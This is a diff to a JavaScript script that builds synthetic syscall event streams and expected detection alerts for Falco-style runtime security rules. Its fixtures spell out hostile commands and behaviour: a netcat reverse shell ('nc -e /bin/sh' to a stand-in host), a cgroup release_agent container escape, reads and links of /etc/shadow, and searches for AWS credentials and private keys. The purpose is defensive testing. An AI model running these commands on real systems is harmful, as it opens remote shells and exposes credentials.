@@ -79,15 +79,21 @@ function proc(name, { exepath, cmdline, pid, parent, cwd = '/', tty = 0, contain
   };
 }
 
+// As in the seed's detections: containerd-shim (moby) -> event-generator -> the action.
 const shim = proc('containerd-shim', {
   exepath: '/usr/bin/containerd-shim-runc-v2',
-  cmdline: '/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id abc6831a04ae -address /run/containerd/containerd.sock',
+  cmdline: 'containerd-shim -namespace moby -id abc6831a04ae35c33de7587e0c2eb78fcea695685eec4c15a152b998f756774b -address /run/containerd/containerd.sock',
   pid: 2811,
   container: NO_CONTAINER,
 });
 
-function eventGenerator(action) {
-  return proc('event-generator', { exepath: '/bin/event-generator', cmdline: `/bin/event-generator run syscall.${action} --sleep 0`, pid: 4301, parent: shim });
+function eventGenerator() {
+  return proc('event-generator', { exepath: '/bin/event-generator', cmdline: 'event-generator run syscall', pid: 4301, parent: shim });
+}
+
+/** A child of event-generator; busybox applets by default, lower-layer executables as in the seed. */
+function child(parent, name, cmdline, pid, extra = {}, exepath = '/bin/busybox') {
+  return proc(name, { exepath, cmdline, pid, parent, extra: { 'proc.is_exe_writable': true, ...extra } });
 }
 
 // ---- streams ------------------------------------------------------------------------------------
@@ -162,64 +168,135 @@ function record(group, name, description, stream, expect) {
   writeFileSync(new URL(`${name}.expect.json`, dir), JSON.stringify({ description, ...expect }, null, 2) + '\n');
 }
 
-// ---- event-generator actions --------------------------------------------------------------------
-{
-  const eg = eventGenerator('DetectReleaseAgentFileContainerEscapes');
-  const sh = proc('sh', { exepath: '/bin/busybox', cmdline: "sh -c echo 'hello world' > release_agent", pid: 4317, parent: eg, extra: { 'thread.cap_effective': 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_SYS_ADMIN CAP_SETUID CAP_SETGID' } });
-  const s = new Stream().spawn(eg).spawn(sh);
-  s.open(sh, '/release_agent', 'w', 3, 'O_CREAT|O_TRUNC');
+// ---- event-generator actions (seed 000's detections) ---------------------------------------------
+const EG = 'event-generator';
+function action(name, description, build, stable, defaults) {
+  const eg = eventGenerator();
+  const stream = new Stream().spawn(eg);
+  build(stream, eg);
+  record(EG, name, description, stream, { stable, default: defaults });
+}
+const tmp = (a, n) => `/tmp/falco-event-generator-syscall-${a}-${n}`;
+
+action('detect-release-agent-file-container-escapes', 'syscall.DetectReleaseAgentFileContainerEscapes: a shell writes a cgroup release_agent file', (s, eg) => {
+  const sh = child(eg, 'sh', "sh -c echo 'hello world' > release_agent", 4317, { 'thread.cap_effective': 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_SYS_ADMIN CAP_SETUID CAP_SETGID' });
+  s.spawn(sh).open(sh, '/release_agent', 'w', 3, 'O_CREAT|O_TRUNC');
   s.add(sh, 'write', { 'fd.num': 3, 'fd.name': '/release_agent', 'fd.typechar': 'f', 'evt.res': 'SUCCESS', 'evt.rawres': 12 });
-  record('event-generator', 'detect-release-agent-file-container-escapes', 'syscall.DetectReleaseAgentFileContainerEscapes: a shell writes a cgroup release_agent file inside a container', s, {
-    stable: [{ rule: 'Detect release_agent File Container Escapes', priority: 'Critical', count: 1, fields: { 'fd.name': '/release_agent', 'proc.name': 'sh', 'proc.exepath': '/bin/busybox', 'proc.pname': 'event-generator', 'user.loginuid': -1, 'container.id': 'abc6831a04ae' } }],
-    default: [{ rule: 'Container escape through a cgroup release_agent', priority: 'Critical', count: 1, fields: { 'fd.name': '/release_agent', 'proc.name': 'sh' } }],
-  });
-}
-{
-  const eg = eventGenerator('CreateSymlinkOverSensitiveFiles');
-  const s = new Stream().spawn(eg);
-  s.add(eg, 'symlinkat', { 'evt.arg.target': '/etc/shadow', 'evt.arg.linkpath': '/tmp/created-by-event-generator', 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
-  record('event-generator', 'create-symlink-over-sensitive-files', 'syscall.CreateSymlinkOverSensitiveFiles: a symlink pointing at /etc/shadow', s, {
-    stable: [{ rule: 'Create Symlink Over Sensitive Files', priority: 'Warning', count: 1, fields: { 'evt.arg.target': '/etc/shadow', 'evt.arg.linkpath': '/tmp/created-by-event-generator', 'proc.name': 'event-generator' } }],
-    default: [{ rule: 'Link to a sensitive file', priority: 'Warning', count: 1, fields: { 'proc.name': 'event-generator' } }],
-  });
-}
-{
-  const eg = eventGenerator('CreateHardlinkOverSensitiveFiles');
-  const s = new Stream().spawn(eg);
-  s.add(eg, 'linkat', { 'evt.arg.oldpath': '/etc/shadow', 'evt.arg.newpath': '/tmp/created-by-event-generator', 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
-  record('event-generator', 'create-hardlink-over-sensitive-files', 'syscall.CreateHardlinkOverSensitiveFiles: a hard link to /etc/shadow', s, {
-    stable: [{ rule: 'Create Hardlink Over Sensitive Files', priority: 'Warning', count: 1, fields: { 'evt.arg.oldpath': '/etc/shadow', 'evt.arg.newpath': '/tmp/created-by-event-generator' } }],
-    default: [{ rule: 'Link to a sensitive file', priority: 'Warning', count: 1, fields: { 'proc.name': 'event-generator' } }],
-  });
-}
-{
-  const eg = eventGenerator('PtraceAttachContainer');
-  const s = new Stream().spawn(eg);
+}, [{ rule: 'Detect release_agent File Container Escapes', priority: 'Critical', count: 1, fields: { 'fd.name': '/release_agent', 'evt.type': 'openat', 'user.name': 'root', 'user.uid': 0, 'user.loginuid': -1, 'proc.name': 'sh', 'proc.exepath': '/bin/busybox', 'proc.pname': EG, 'proc.cmdline': "sh -c echo 'hello world' > release_agent", 'proc.tty': 0 } }],
+  [{ rule: 'Container escape through a cgroup release_agent', priority: 'Critical', count: 1, fields: { 'fd.name': '/release_agent' } }]);
+
+action('drop-and-execute-new-binary-in-container', 'syscall.DropAndExecuteNewBinaryInContainer: a binary written at run time (upper layer) is executed', (s, eg) => {
+  const exe = '/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-pIekP8';
+  const p = child(eg, 'falco-event-gen', 'falco-event-gen', 4320, { 'proc.exepath': exe, 'proc.exe': exe, 'proc.is_exe_upper_layer': true, 'proc.exe_ino.ctime': 1763120565795851894n, 'proc.exe_ino.mtime': 1763120565795851894n, 'proc.exe_ino.ctime_duration_proc_start': 15867197, 'proc.sname': EG }, exe);
+  s.add(p, 'execve', { 'evt.res': 'SUCCESS', 'evt.rawres': 0, 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER' });
+}, [{ rule: 'Drop and execute new binary in container', priority: 'Critical', count: 1, fields: { 'proc.exe': '/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-pIekP8', 'proc.sname': EG, 'proc.aname[2]': 'containerd-shim', 'proc.exe_ino.ctime': 1763120565795851894, 'proc.exe_ino.mtime': 1763120565795851894, 'proc.exe_ino.ctime_duration_proc_start': 15867197, 'proc.cwd': '/', 'container.start_ts': 1763120552324820709, 'evt.type': 'execve', 'proc.name': 'falco-event-gen', 'proc.pname': EG, 'proc.cmdline': 'falco-event-gen', 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER' } }],
+  [{ rule: 'Program from the container writable layer executed', priority: 'Critical', count: 1, fields: { 'proc.exepath': '/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-pIekP8' } }]);
+
+action('fileless-execution-via-memfd-create', 'syscall.FilelessExecutionViaMemfdCreate: a program executed from a memfd', (s, eg) => {
+  const p = child(eg, '3', '3 run helper.DoNothing', 4321, { 'proc.is_exe_from_memfd': true, 'proc.sname': EG }, 'memfd:program');
+  s.add(p, 'execve', { 'evt.res': 'SUCCESS', 'evt.rawres': 0, 'evt.arg.flags': 'EXE_WRITABLE|EXE_FROM_MEMFD' });
+}, [{ rule: 'Fileless execution via memfd_create', priority: 'Critical', count: 1, fields: { 'container.start_ts': 1763120552324820709, 'proc.cwd': '/', 'evt.res': 'SUCCESS', 'proc.sname': EG, 'proc.aname[2]': 'containerd-shim', 'evt.type': 'execve', 'proc.name': '3', 'proc.exepath': 'memfd:program', 'proc.pname': EG, 'proc.cmdline': '3 run helper.DoNothing' } }],
+  [{ rule: 'Program executed from memory', priority: 'Critical', count: 1, fields: { 'proc.exepath': 'memfd:program' } }]);
+
+action('netcat-remote-code-execution-in-container', 'syscall.NetcatRemoteCodeExecutionInContainer: nc started with -e in a container', (s, eg) => {
+  s.spawn(child(eg, 'nc', 'nc -e /bin/sh example.com 22', 4322, {}, '/usr/bin/nc'));
+}, [{ rule: 'Netcat Remote Code Execution in Container', priority: 'Warning', count: 1, fields: { 'evt.type': 'execve', 'proc.name': 'nc', 'proc.exepath': '/usr/bin/nc', 'proc.pname': EG } }],
+  [{ rule: 'Reverse shell with netcat', priority: 'Warning', count: 1, fields: { 'proc.cmdline': 'nc -e /bin/sh example.com 22' } }]);
+
+action('execution-from-dev-shm', 'syscall.ExecutionFromDevShm: a shell runs a script in /dev/shm', (s, eg) => {
+  s.spawn(child(eg, 'sh', 'sh -c /dev/shm/falco-event-generator-syscall ExecutionFromDevShm-WlkJ1d.sh', 4323, { 'proc.is_exe_lower_layer': true }));
+}, [{ rule: 'Execution from /dev/shm', priority: 'Warning', count: 1, fields: { 'proc.cwd': '/', 'proc.pcmdline': 'event-generator run syscall', 'group.gid': 0, 'group.name': 'root', 'evt.type': 'execve', 'proc.name': 'sh', 'proc.exepath': '/bin/busybox', 'proc.pname': EG, 'proc.cmdline': 'sh -c /dev/shm/falco-event-generator-syscall ExecutionFromDevShm-WlkJ1d.sh' } }],
+  [{ rule: 'Program run from /dev/shm', priority: 'Warning', count: 1, fields: { 'proc.cmdline': 'sh -c /dev/shm/falco-event-generator-syscall ExecutionFromDevShm-WlkJ1d.sh' } }]);
+
+action('remove-bulk-data-from-disk', 'syscall.RemoveBulkDataFromDisk: shred removes a file', (s, eg) => {
+  s.spawn(child(eg, 'shred', `shred -u ${tmp('RemoveBulkDataFromDisk', '3702235722')}`, 4324));
+}, [{ rule: 'Remove Bulk Data from Disk', priority: 'Warning', count: 1, fields: { 'evt.type': 'execve', 'user.name': 'root', 'proc.name': 'shred', 'proc.exepath': '/bin/busybox', 'proc.pname': EG, 'proc.cmdline': `shred -u ${tmp('RemoveBulkDataFromDisk', '3702235722')}`, 'proc.tty': 0 } }],
+  [{ rule: 'Data destroyed with shred or mkfs', priority: 'Warning', count: 1, fields: { 'proc.cmdline': `shred -u ${tmp('RemoveBulkDataFromDisk', '3702235722')}` } }]);
+
+action('debugfs-launched-in-privileged-container', 'syscall.DebugfsLaunchedInPrivilegedContainer: debugfs in a privileged container', (s, eg) => {
+  const priv = { ...EVENTGEN_CONTAINER, 'container.privileged': true };
+  s.spawn(proc('debugfs', { exepath: '/usr/sbin/debugfs', cmdline: 'debugfs -V', pid: 4325, parent: eg, container: priv }));
+}, [{ rule: 'Debugfs Launched in Privileged Container', priority: 'Warning', count: 1, fields: { 'evt.type': 'execve', 'proc.name': 'debugfs', 'proc.exepath': '/usr/sbin/debugfs', 'proc.pname': EG, 'proc.cmdline': 'debugfs -V' } }],
+  [{ rule: 'debugfs in a privileged container', priority: 'Warning', count: 1, fields: { 'proc.cmdline': 'debugfs -V' } }]);
+
+action('directory-traversal-monitored-file-read', 'syscall.DirectoryTraversalMonitoredFileRead: /etc/shadow opened through ../ components', (s, eg) => {
+  s.open(eg, '/etc/shadow', 'r', 5);
+  s.events.at(-1)['fd.nameraw'] = '/etc/../etc/../etc/shadow';
+}, [{ rule: 'Directory traversal monitored file read', priority: 'Warning', count: 1, fields: { 'fd.name': '/etc/shadow', 'fd.nameraw': '/etc/../etc/../etc/shadow', 'evt.type': 'openat', 'proc.name': EG, 'proc.exepath': '/bin/event-generator', 'proc.pname': 'containerd-shim', 'proc.cmdline': 'event-generator run syscall' } }],
+  [{ rule: 'Sensitive file read', priority: 'Warning', count: 1, fields: { 'fd.name': '/etc/shadow' } }]);
+
+action('read-sensitive-file-untrusted', 'syscall.ReadSensitiveFileUntrusted: /etc/shadow opened for reading', (s, eg) => {
+  s.open(eg, '/etc/shadow', 'r', 5);
+}, [{ rule: 'Read sensitive file untrusted', priority: 'Warning', count: 1, fields: { 'fd.name': '/etc/shadow', 'evt.type': 'openat', 'proc.name': EG, 'proc.exepath': '/bin/event-generator', 'proc.pname': 'containerd-shim', 'proc.cmdline': 'event-generator run syscall', 'proc.tty': 0 } }],
+  [{ rule: 'Sensitive file read', priority: 'Warning', count: 1, fields: { 'fd.name': '/etc/shadow' } }]);
+
+action('find-aws-credentials', 'syscall.FindAwsCredentials: find looks for .aws/credentials', (s, eg) => {
+  s.spawn(child(eg, 'find', 'find /tmp -maxdepth 1 -iname .aws/credentials', 4326));
+}, [{ rule: 'Find AWS Credentials', priority: 'Warning', count: 1, fields: { 'proc.pcmdline': 'event-generator run syscall', 'proc.cwd': '/', 'group.gid': 0, 'group.name': 'root', 'evt.type': 'execve', 'proc.name': 'find', 'proc.exepath': '/bin/busybox', 'proc.cmdline': 'find /tmp -maxdepth 1 -iname .aws/credentials' } }],
+  [{ rule: 'Credentials searched for', priority: 'Warning', count: 1, fields: { 'proc.cmdline': 'find /tmp -maxdepth 1 -iname .aws/credentials' } }]);
+
+action('search-private-keys-or-passwords', 'syscall.SearchPrivateKeysOrPasswords: find looks for id_rsa', (s, eg) => {
+  s.spawn(child(eg, 'find', 'find /tmp -maxdepth 1 -iname id_rsa', 4327));
+}, [{ rule: 'Search Private Keys or Passwords', priority: 'Warning', count: 1, fields: { 'evt.type': 'execve', 'proc.name': 'find', 'proc.exepath': '/bin/busybox', 'proc.pname': EG, 'proc.cmdline': 'find /tmp -maxdepth 1 -iname id_rsa' } }],
+  [{ rule: 'Credentials searched for', priority: 'Warning', count: 1, fields: { 'proc.cmdline': 'find /tmp -maxdepth 1 -iname id_rsa' } }]);
+
+action('clear-log-activities', 'syscall.ClearLogActivities: a syslog file opened with O_TRUNC', (s, eg) => {
+  const file = `${tmp('ClearLogActivities', '1695056983')}/syslog`;
+  s.open(eg, file, 'w', 3, 'O_TRUNC');
+  s.add(eg, 'close', { 'fd.num': 3, 'fd.name': file, 'fd.typechar': 'f', 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
+}, [{ rule: 'Clear Log Activities', priority: 'Warning', count: 1, fields: { 'fd.name': `${tmp('ClearLogActivities', '1695056983')}/syslog`, 'evt.type': 'openat', 'proc.name': EG, 'proc.exepath': '/bin/event-generator', 'proc.pname': 'containerd-shim', 'proc.cmdline': 'event-generator run syscall' } }],
+  [{ rule: 'Log file truncated', priority: 'Warning', count: 1, fields: { 'fd.name': `${tmp('ClearLogActivities', '1695056983')}/syslog` } }]);
+
+action('ptrace-attach-container', 'syscall.PtraceAttachContainer: PTRACE_ATTACH to another process', (s, eg) => {
   s.add(eg, 'ptrace', { 'evt.arg.request': 'PTRACE_ATTACH', 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
-  record('event-generator', 'ptrace-attach-container', 'syscall.PtraceAttachContainer: PTRACE_ATTACH to another process', s, {
-    stable: [{ rule: 'PTRACE attached to process', priority: 'Warning', count: 1, fields: { 'proc.name': 'event-generator', 'proc.pcmdline': shim.fields['proc.cmdline'] } }],
-    default: [{ rule: 'Process attached with ptrace', priority: 'Warning', count: 1, fields: { 'evt.arg.request': 'PTRACE_ATTACH' } }],
-  });
-}
-{
-  const eg = eventGenerator('ClearLogActivities');
-  const s = new Stream().spawn(eg);
-  s.open(eg, '/var/log/syslog', 'w', 3, 'O_TRUNC');
-  s.add(eg, 'close', { 'fd.num': 3, 'fd.name': '/var/log/syslog', 'fd.typechar': 'f', 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
-  record('event-generator', 'clear-log-activities', 'syscall.ClearLogActivities: /var/log/syslog opened with O_TRUNC', s, {
-    stable: [{ rule: 'Clear Log Activities', priority: 'Warning', count: 1, fields: { 'fd.name': '/var/log/syslog', 'proc.name': 'event-generator' } }],
-    default: [{ rule: 'Log file truncated', priority: 'Warning', count: 1, fields: { 'fd.name': '/var/log/syslog' } }],
-  });
-}
-{
-  const eg = eventGenerator('NetcatRemoteCodeExecutionInContainer');
-  const nc = proc('nc', { exepath: '/usr/bin/nc', cmdline: 'nc -e /bin/sh example.com 22', pid: 4322, parent: eg });
-  const s = new Stream().spawn(eg).spawn(nc);
-  record('event-generator', 'netcat-remote-code-execution-in-container', 'syscall.NetcatRemoteCodeExecutionInContainer: nc started with -e in a container', s, {
-    stable: [{ rule: 'Netcat Remote Code Execution in Container', priority: 'Warning', count: 1, fields: { 'proc.name': 'nc', 'proc.exepath': '/usr/bin/nc', 'proc.cmdline': 'nc -e /bin/sh example.com 22' } }],
-    default: [{ rule: 'Reverse shell with netcat', priority: 'Warning', count: 1, fields: { 'proc.cmdline': 'nc -e /bin/sh example.com 22' } }],
-  });
-}
+}, [{ rule: 'PTRACE attached to process', priority: 'Warning', count: 1, fields: { 'proc.pcmdline': shim.fields['proc.cmdline'], 'evt.type': 'ptrace', 'proc.name': EG, 'proc.exepath': '/bin/event-generator', 'proc.pname': 'containerd-shim' } }],
+  [{ rule: 'Process attached with ptrace', priority: 'Warning', count: 1, fields: { 'evt.arg.request': 'PTRACE_ATTACH' } }]);
+
+action('ptrace-anti-debug-attempt', 'syscall.PtraceAntiDebugAttempt: PTRACE_TRACEME in a child of event-generator', (s, eg) => {
+  const p = proc(EG, { exepath: '/bin/event-generator', cmdline: 'event-generator run syscall', pid: 4330, parent: eg });
+  s.add(p, 'ptrace', { 'evt.arg.request': 'PTRACE_TRACEME', 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
+}, [{ rule: 'PTRACE anti-debug attempt', priority: 'Notice', count: 1, fields: { 'proc.pcmdline': 'event-generator run syscall', 'evt.type': 'ptrace', 'proc.name': EG, 'proc.exepath': '/bin/event-generator', 'proc.pname': EG } }],
+  [{ rule: 'Process asked to be traced', priority: 'Notice', count: 1, fields: { 'proc.name': EG } }]);
+
+action('create-symlink-over-sensitive-files', 'syscall.CreateSymlinkOverSensitiveFiles: ln -s /etc', (s, eg) => {
+  const link = `${tmp('CreateSymlinkOverSensitiveFiles', '3008289064')}/etc_link`;
+  const ln = child(eg, 'ln', `ln -s /etc ${link}`, 4331);
+  s.spawn(ln).add(ln, 'symlink', { 'evt.arg.target': '/etc', 'evt.arg.linkpath': link, 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
+}, [{ rule: 'Create Symlink Over Sensitive Files', priority: 'Warning', count: 1, fields: { 'evt.arg.target': '/etc', 'evt.arg.linkpath': `${tmp('CreateSymlinkOverSensitiveFiles', '3008289064')}/etc_link`, 'evt.type': 'symlink', 'proc.name': 'ln', 'proc.exepath': '/bin/busybox', 'proc.pname': EG } }],
+  [{ rule: 'Link to a sensitive file', priority: 'Warning', count: 1, fields: { 'proc.name': 'ln' } }]);
+
+action('create-hardlink-over-sensitive-files', 'syscall.CreateHardlinkOverSensitiveFiles: ln /etc/shadow', (s, eg) => {
+  const link = `${tmp('CreateHardlinkOverSensitiveFiles', '2692954326')}/shadow_link`;
+  const ln = child(eg, 'ln', `ln -v /etc/shadow ${link}`, 4332);
+  s.spawn(ln).add(ln, 'link', { 'evt.arg.oldpath': '/etc/shadow', 'evt.arg.newpath': link, 'evt.res': 'SUCCESS', 'evt.rawres': 0 });
+}, [{ rule: 'Create Hardlink Over Sensitive Files', priority: 'Warning', count: 1, fields: { 'evt.arg.oldpath': '/etc/shadow', 'evt.arg.newpath': `${tmp('CreateHardlinkOverSensitiveFiles', '2692954326')}/shadow_link`, 'evt.type': 'link', 'proc.name': 'ln', 'proc.exepath': '/bin/busybox', 'proc.pname': EG } }],
+  [{ rule: 'Link to a sensitive file', priority: 'Warning', count: 1, fields: { 'proc.name': 'ln' } }]);
+
+action('packet-socket-created-in-container', 'syscall.PacketSocketCreatedInContainer: an AF_PACKET socket', (s, eg) => {
+  s.add(eg, 'socket', { 'evt.arg.domain': 'AF_PACKET', 'evt.args': 'fd=3 domain=17(AF_PACKET) type=3 proto=3', 'fd.num': 3, 'evt.res': 'SUCCESS', 'evt.rawres': 3 });
+}, [{ rule: 'Packet socket created in container', priority: 'Notice', count: 1, fields: { 'evt.args': 'fd=3 domain=17(AF_PACKET) type=3 proto=3', 'evt.type': 'socket', 'proc.name': EG, 'proc.exepath': '/bin/event-generator', 'proc.pname': 'containerd-shim' } }],
+  [{ rule: 'Packet socket in a container', priority: 'Notice', count: 1, fields: { 'proc.name': EG } }]);
+
+action('run-shell-untrusted', 'syscall.RunShellUntrusted: httpd (a copy of event-generator) spawns a shell', (s, eg) => {
+  const httpdExe = '/tmp/falco-event-generator-syscall-spawned-3461569440/httpd';
+  const httpd = proc('httpd', { exepath: '/bin/event-generator', cmdline: `${httpdExe} --loglevel info run ^helper.RunShell$`, pid: 4333, parent: eg });
+  httpd.fields['proc.exe'] = httpdExe;
+  const sh = proc('sh', { exepath: '/bin/busybox', cmdline: 'sh -c ls > /dev/null', pid: 4334, parent: httpd, extra: { 'proc.is_exe_writable': true } });
+  s.spawn(sh);
+}, [{ rule: 'Run shell untrusted', priority: 'Notice', count: 1, fields: { 'proc.pexe': '/tmp/falco-event-generator-syscall-spawned-3461569440/httpd', 'proc.pexepath': '/bin/event-generator', 'proc.aname[2]': EG, 'proc.aname[3]': 'containerd-shim', 'evt.type': 'execve', 'proc.name': 'sh', 'proc.exepath': '/bin/busybox', 'proc.pname': 'httpd', 'proc.cmdline': 'sh -c ls > /dev/null' } }],
+  [{ rule: 'Shell spawned by a server process', priority: 'Notice', count: 1, fields: { 'proc.pname': 'httpd' } }]);
+
+action('system-user-interactive', 'syscall.SystemUserInteractive: a system account (daemon) runs a program under login', (s, eg) => {
+  const login = proc('login', { exepath: '/bin/login', cmdline: 'login -f daemon', pid: 4335, parent: eg, user: { ...ROOT, 'user.name': 'daemon', 'user.uid': 1 } });
+  s.spawn(login);
+}, [{ rule: 'System user interactive', priority: 'Informational', count: 1, fields: { 'user.name': 'daemon', 'proc.name': 'login' } }],
+  [{ rule: 'System account used interactively', priority: 'Informational', count: 1, fields: { 'user.name': 'daemon' } }]);
+
+action('disallowed-ssh-connection-non-standard-port', 'syscall.DisallowedSSHConnectionNonStandardPort: ssh connects to port 443', (s, eg) => {
+  const ssh = child(eg, 'ssh', 'ssh -p 443 user@203.0.113.10', 4336, {}, '/usr/bin/ssh');
+  s.spawn(ssh).add(ssh, 'connect', { 'fd.num': 3, 'fd.typechar': '4', 'fd.type': 'ipv4', 'fd.l4proto': 'tcp', 'fd.sockfamily': 'ip', 'fd.cip': '172.17.0.3', 'fd.cport': 40100, 'fd.sip': '203.0.113.10', 'fd.sport': 443, 'fd.lip': '172.17.0.3', 'fd.rip': '203.0.113.10', 'fd.name': '172.17.0.3:40100->203.0.113.10:443', 'fd.connected': true, 'evt.res': 'EINPROGRESS', 'evt.rawres': -115 });
+}, [{ rule: 'Disallowed SSH Connection Non Standard Port', priority: 'Notice', count: 1, fields: { 'fd.name': '172.17.0.3:40100->203.0.113.10:443', 'proc.name': 'ssh' } }],
+  [{ rule: 'SSH to a non-standard port', priority: 'Notice', count: 1, fields: { 'fd.sport': 443 } }]);
 
 // ---- labs ---------------------------------------------------------------------------------------
 {
